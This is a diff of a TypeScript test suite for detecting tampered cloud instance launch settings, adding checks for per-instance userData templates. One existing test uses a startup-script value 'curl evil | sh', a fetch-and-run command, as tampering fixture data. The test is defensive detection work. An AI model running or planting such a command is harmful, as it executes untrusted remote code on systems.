@@ -5,6 +5,7 @@
  */
 import assert from 'node:assert/strict';
 import type { LaunchTemplate } from '../../src/contract/fleet.ts';
+import type { ObservedInstance } from '../../src/contract/provider.ts';
 import { modifiedFields } from '../../src/plan/tamper.ts';
 import * as aws from '../../providers/aws/facts.ts';
 import * as gcp from '../../providers/gcp/facts.ts';
@@ -22,6 +23,25 @@ function template(over: Partial<LaunchTemplate> = {}): LaunchTemplate {
     disks: [],
     tags: { team: 'web' },
     ...over,
+  };
+}
+
+/** An instance of group web, slot `slot`, as a listing reports it. */
+function observed(name: string, slot: number, zone = 'europe-west1-b'): ObservedInstance {
+  return {
+    id: `id-${name}`,
+    name,
+    provider: 'cloud',
+    zone,
+    state: 'running',
+    createdAt: 0,
+    address: undefined,
+    fleet: 'prod',
+    group: 'web',
+    templateHash: 'h1',
+    imageDigest: `sha256:${'0'.repeat(64)}`,
+    revision: 'abc',
+    slot,
   };
 }
 
@@ -88,12 +108,32 @@ describe('providers: launch facts for tamper detection', () => {
         { boot: false, diskSizeGb: '20' },
       ],
     };
-    const expected = gcp.expectedFacts(t);
+    const expected = gcp.expectedFacts(t, observed('web-1', 1));
     assert.deepEqual(modifiedFields(expected, gcp.observedFacts(instance)), []);
     const script = { ...instance, metadata: { items: [...items, { key: 'startup-script', value: 'curl evil | sh' }] } };
     const found = modifiedFields(expected, gcp.observedFacts(script));
     assert.deepEqual(found, ['metadata']);
     assert.ok(!JSON.stringify(gcp.observedFacts(script)).includes('evil'), 'digests, never values');
+  });
+
+  it('gcp: userData with ${drover.…} variables is compared as each instance’s own filled text', () => {
+    const t = template({ machine: { type: 'e2-small' }, userData: 'slot=${drover.slot} name=${drover.name} zone=${drover.zone}\n' });
+    const listed = (name: string, userData: string) => ({
+      name,
+      machineType: 'zones/europe-west1-b/machineTypes/e2-small',
+      labels: { team: 'web' },
+      metadata: { items: [{ key: 'user-data', value: userData }] },
+      networkInterfaces: [{ network: 'global/networks/default' }],
+      disks: [{ boot: true, source: `zones/europe-west1-b/disks/${name}` }],
+    });
+    const mine = listed('web-3', 'slot=3 name=web-3 zone=europe-west1-b\n');
+    assert.deepEqual(
+      modifiedFields(gcp.expectedFacts(t, observed('web-3', 3)), gcp.observedFacts(mine)),
+      [],
+      'its own values: not modified',
+    );
+    const other = listed('web-3', 'slot=4 name=web-3 zone=europe-west1-b\n');
+    assert.deepEqual(modifiedFields(gcp.expectedFacts(t, observed('web-3', 3)), gcp.observedFacts(other)), ['metadata', 'userData']);
   });
 
   it('azure: ids compared case-insensitively; the primary NIC must be the VM’s own', () => {
